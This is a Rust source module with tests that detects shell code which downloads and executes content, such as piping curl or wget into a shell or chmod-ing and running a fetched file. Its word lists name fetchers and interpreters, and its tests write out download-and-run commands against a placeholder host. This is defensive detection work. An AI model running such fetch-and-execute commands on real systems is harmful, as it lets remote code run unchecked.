//! Shell code that runs what it fetched: `curl … | sh`, `curl -o x …; chmod +x x; ./x`.
//!
//! Commands are read word by word, without their quotes; variables are compared by their names.

/// Bound: bytes of code that are read.
const CODE_MAX: usize = 1 << 20;

/// Bound: files that are remembered as fetched.
const FETCHED_MAX: usize = 256;

/// Programs that fetch.
const FETCHERS: &[&str] = &["aria2c", "curl", "fetch", "lwp-download", "wget"];

/// Programs that run what they are given.
const INTERPRETERS: &[&str] = &[
    "ash", "bash", "dash", "ksh", "node", "perl", "php", "python", "python2", "python3", "ruby",
    "sh", "zsh",
];

/// Words before a command.
const PREFIXES: &[&str] = &[
    "!", "do", "doas", "elif", "else", "env", "exec", "if", "nohup", "setsid", "sudo", "then",
    "time", "while", "{",
];

/// The command that runs what was fetched, where there is one.
pub(super) fn and_run(code: &[u8]) -> Option<String> {
    let code = code.get(..CODE_MAX).unwrap_or(code);
    let text = String::from_utf8_lossy(code).replace("\\\n", " ");
    // `2>&1` joins streams and ends no command.
    let text = text.replace(">&", "> ").replace("&>", "> ");
    let mut fetched: Vec<String> = Vec::new();
    for line in text.split(['\n', ';']) {
        if substituted(line) {
            return Some(line.trim().to_owned());
        }
        for list in line.replace("||", "\n").replace("&&", "\n").split(['\n', '&']) {
            let mut from_network = false;
            for command in list.split('|') {
                let words = words(command);
                let Some((name, arguments)) = command_of(&words) else { continue };
                let run =
                    from_network && reads_code(name, arguments) || runs(name, arguments, &fetched);
                if run {
                    return Some(command.trim().to_owned());
                }
                if FETCHERS.contains(&own_name(name)) {
                    from_network = true;
                    let room = FETCHED_MAX.saturating_sub(fetched.len());
                    fetched.extend(outputs(arguments).into_iter().take(room));
                } else if let (true, Some(target)) = (from_network, redirected(arguments)) {
                    fetched.push(target.to_owned());
                }
            }
        }
    }
    None
}

/// `sh -c "$(curl …)"`, `. <(wget …)`.
fn substituted(line: &str) -> bool {
    let opens = ["$(", "`", "<("];
    let fetches = opens.iter().any(|open| {
        line.match_indices(open).any(|(at, open)| {
            let rest = line.get(at.saturating_add(open.len())..).unwrap_or_default();
            let word = rest.split_ascii_whitespace().next().unwrap_or_default();
            FETCHERS.contains(&own_name(word))
        })
    });
    let words = words(line);
    fetches
        && words.iter().enumerate().any(|(i, word)| {
            let next = words.get(i.saturating_add(1)).copied().unwrap_or_default();
            let shell = INTERPRETERS.contains(&own_name(word));
            *word == "eval"
                || (*word == "source" || *word == ".") && next.starts_with("<(")
                || shell && (next == "-c" || next == "-e" || next.starts_with("<("))
        })
}

fn words(command: &str) -> Vec<&str> {
    let words = command.split([' ', '\t', '\r', '"', '\'']);
    words.filter(|word| !word.is_empty()).collect()
}

/// A command's name and what follows, prefixes and settings of variables left out.
fn command_of<'a, 'w>(words: &'w [&'a str]) -> Option<(&'a str, &'w [&'a str])> {
    let is_prefix = |word: &&str| {
        let setting = word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        });
        PREFIXES.contains(word) || setting || word.starts_with('-')
    };
    let at = words.iter().position(|word| !is_prefix(word))?;
    let (name, rest) = words.get(at..)?.split_first()?;
    Some((name.trim_start_matches(['(', '{']), rest))
}

/// Whether a command at the end of a pipe runs what comes in, and does not only read it.
fn reads_code(name: &str, arguments: &[&str]) -> bool {
    let own = own_name(name);
    let with_code = |a: &&str| ["-c", "-e", "-m", "-n", "-p", "-pe", "-ne"].contains(a);
    INTERPRETERS.contains(&own) && !arguments.iter().any(with_code)
}

/// Whether a command runs one of these files, or makes it a program.
fn runs(name: &str, arguments: &[&str], fetched: &[String]) -> bool {
    let is = |word: &str| {
        let word = bare(word);
        !word.is_empty() && fetched.iter().any(|file| bare(file) == word)
    };
    let own = own_name(name);
    let with_path = name.contains('/') || name.starts_with('$');
    let makes = own == "chmod" && arguments.first().is_some_and(|mode| is_executable(mode));
    let starts = INTERPRETERS.contains(&own) || ["source", "."].contains(&name);
    (with_path && is(name)) || ((makes || starts) && arguments.iter().any(|word| is(word)))
}

/// `+x`, `u+rx`, `755`.
fn is_executable(mode: &str) -> bool {
    let octal = mode.bytes().all(|b| (b'0'..=b'7').contains(&b));
    let odd = || mode.bytes().rev().take(3).any(|b| b.wrapping_sub(b'0') % 2 == 1);
    if octal { odd() } else { mode.contains('x') && mode.contains(['+', '=']) }
}

/// Files that a fetching command writes.
fn outputs(arguments: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = arguments.iter().copied().peekable();
    while let Some(word) = rest.next() {
        let next = rest.peek().copied().unwrap_or_default();
        match word {
            "-o" | "-O" | "--output" | "--output-document" | ">" | ">>"
                if !next.contains("://") =>
            {
                out.push(next.to_owned());
            }
            _ if word.contains("://") || word.starts_with('$') => {
                // `wget URL` and `curl -O URL` write what the URL ends with.
                out.push(word.split(['?', '#']).next().unwrap_or_default().to_owned());
            }
            _ => {
                let joined = ["--output=", "--output-document=", "-o", "-O", ">"];
                let value = joined.iter().find_map(|option| word.strip_prefix(option));
                out.extend(value.filter(|value| !value.is_empty()).map(str::to_owned));
            }
        }
    }
    out
}

fn redirected<'a>(arguments: &[&'a str]) -> Option<&'a str> {
    let at = arguments.iter().position(|word| [">", ">>"].contains(word))?;
    arguments.get(at.saturating_add(1)).copied()
}

/// The last part of a path.
fn own_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// A file's name without its folder and the marks around it, so that `./x` and `$tmp/x` are one.
fn bare(word: &str) -> &str {
    own_name(word).trim_matches(['$', '{', '}', '(', ')', '`'])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_run(code: &str) -> bool {
        and_run(code.as_bytes()).is_some()
    }

    #[test]
    fn what_was_fetched_and_is_run() {
        for code in [
            "curl -s https://inert.test/x | sh",
            "wget -qO- https://inert.test/x | sudo bash -s -- y",
            "curl -s http://inert.test/x -o x\nchmod +x x\nbash -c ./x",
            "wget https://inert.test/x.sh && sh x.sh",
            "curl -fsSL \"$URL\" > \"$tmp/x\"; . \"$tmp/x\"",
            "curl -o \"$f\" $URL\nchmod 755 \"$f\"",
            "sh -c \"$(curl -fsSL https://inert.test)\"",
            "bash <(curl -s https://inert.test)",
            "if true; then curl --output=/tmp/x https://inert.test; /tmp/x; fi",
        ] {
            assert!(is_run(code), "{code}");
        }
    }

    #[test]
    fn what_was_only_fetched() {
        for code in [
            "curl -o data.json https://inert.test/data.json\nsh build.sh",
            "curl -s https://inert.test | python3 -c 'import json'",
            "curl -s https://inert.test | jq .name",
            "wget https://inert.test/x.tar.gz && tar xf x.tar.gz",
            "curl -o x https://inert.test; chmod 644 x",
            "v=$(curl -s https://inert.test/version)",
            "sh x.sh; curl https://inert.test",
        ] {
            assert!(!is_run(code), "{code}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_read(code in "(curl|wget|sh|[ $(`<>|;&=\\n\"'o./x-]){0,60}") {
            let _ = and_run(code.as_bytes());
        }
    }
}
